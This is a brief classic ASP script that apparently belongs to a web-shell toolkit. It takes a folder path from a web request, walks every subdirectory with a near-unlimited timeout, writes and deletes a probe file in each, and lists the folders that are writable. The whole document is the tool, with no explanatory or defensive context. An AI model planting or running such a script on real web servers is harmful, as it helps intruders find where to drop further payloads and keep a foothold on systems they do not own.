<%
Server.ScriptTimeout = 99999
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Sub Walk(p)
  On Error Resume Next
  fso.CreateTextFile(p & "\~w.tmp").Close
  If Err.Number = 0 Then Response.Write p & " writable<br>" : fso.DeleteFile p & "\~w.tmp"
  Err.Clear
  For Each s In fso.GetFolder(p).SubFolders : Walk s.Path : Next
End Sub
If Request("root") <> "" Then Walk Request("root")
%>
